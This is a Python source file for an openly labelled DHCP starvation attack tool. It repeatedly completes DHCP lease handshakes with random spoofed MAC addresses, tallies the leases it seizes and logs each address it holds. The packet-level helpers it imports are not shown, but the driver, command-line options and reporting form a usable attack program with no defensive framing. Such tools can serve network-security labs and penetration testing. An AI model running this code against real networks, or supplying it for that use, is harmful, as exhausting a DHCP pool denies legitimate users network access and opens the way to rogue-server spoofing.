#!/usr/bin/env python3
"""DHCP starvation: complete many lease handshakes with spoofed hardware addresses."""

import argparse
import logging
import random
from dataclasses import dataclass, field, replace
from typing import List, Optional

from dhcp_config import DHCPConfig, attacker_config, configure_logging, load_config
from dhcp_errors import TransportError
from dhcp_exchange import ClientExchange
from dhcp_transport import UDPTransport

logger = logging.getLogger(__name__)


@dataclass
class AttackReport:
    attempted: int = 0
    bound: int = 0
    abandoned: int = 0
    failed: int = 0
    addresses: List[str] = field(default_factory=list)


class AttackDriver:
    def __init__(self, transport, config: DHCPConfig, rng: Optional[random.Random] = None):
        self.transport = transport
        self.config = config
        self.rng = rng or random.Random()

    def run(self, iterations: Optional[int] = None) -> AttackReport:
        iterations = self.config.iterations if iterations is None else iterations
        report = AttackReport()
        logger.info(f"Starting DHCP Starvation: {iterations} iterations")

        for i in range(iterations):
            report.attempted += 1
            exchange = ClientExchange(self.transport, self.config, self.rng)
            logger.info(f"[{i + 1}/{iterations}] Random MAC Address: {exchange.context.mac}")
            try:
                result = exchange.run()
            except TransportError as e:
                logger.error(f"[{i + 1}/{iterations}] Transport failure: {e}")
                report.failed += 1
                continue

            if result.bound:
                report.bound += 1
                report.addresses.append(result.address)
            else:
                report.abandoned += 1

        logger.info(f"Attack finished: {report.bound} leases taken, {report.abandoned} abandoned, "
                    f"{report.failed} send failures")
        return report


def parse_args(argv=None):
    parser = argparse.ArgumentParser(description="DHCP Starvation Attack Tool")
    parser.add_argument("-i", "--interface", help="Network interface to use")
    parser.add_argument("-c", "--config", help="INI configuration file with a [DHCP] section")
    parser.add_argument("-n", "--iterations", type=int, help="Number of fake handshakes")
    parser.add_argument("-t", "--timeout", type=float, help="Seconds to wait for each reply")
    parser.add_argument("-s", "--seed", type=int, help="Seed for hardware addresses and xids")
    parser.add_argument("-v", "--verbose", action="store_true", help="Log packet dumps")
    return parser.parse_args(argv)


def build_config(args) -> DHCPConfig:
    config = attacker_config()
    if args.config:
        config = load_config(args.config, config)
    overrides = {}
    if args.interface:
        overrides['interface'] = args.interface
    if args.iterations is not None:
        overrides['iterations'] = args.iterations
    if args.timeout is not None:
        overrides['reply_timeout'] = args.timeout
    return replace(config, **overrides)


def main(argv=None) -> int:
    args = parse_args(argv)
    config = build_config(args)

    configure_logging(config.log_file, logging.DEBUG if args.verbose else logging.INFO)

    try:
        with UDPTransport(config.client_port, config.interface) as transport:
            report = AttackDriver(transport, config, random.Random(args.seed)).run()
    except TransportError as e:
        logger.error(f"Error: {e}")
        return 1
    except KeyboardInterrupt:
        logger.info("Attack interrupted")
        return 130

    for address in report.addresses:
        logger.info(f"Holding {address}")
    return 0


if __name__ == "__main__":
    raise SystemExit(main())
